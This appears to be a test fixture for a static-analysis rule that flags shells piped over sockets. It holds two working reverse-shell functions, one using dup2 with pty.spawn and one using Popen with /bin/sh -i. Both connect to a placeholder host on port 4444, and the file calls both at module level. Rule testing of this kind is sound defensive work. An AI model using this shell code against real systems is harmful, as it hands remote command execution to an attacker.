import os
import pty
import socket
import subprocess


def probe(host: str) -> bool:
    s = socket.socket()
    # ok: shell-over-socket
    return s.connect_ex((host, 5432)) == 0


def tools() -> str:
    # ok: shell-over-socket
    return subprocess.run(["/bin/sh", "-c", "uptime"], capture_output=True, text=True).stdout


def interactive() -> None:
    s = socket.socket()
    s.connect(("203.0.113.9", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    # ruleid: shell-over-socket
    pty.spawn("/bin/bash")


def quiet() -> None:
    s = socket.create_connection(("203.0.113.9", 4444))
    # ruleid: shell-over-socket
    subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)


print(probe("db.internal"), tools())
quiet()
interactive()
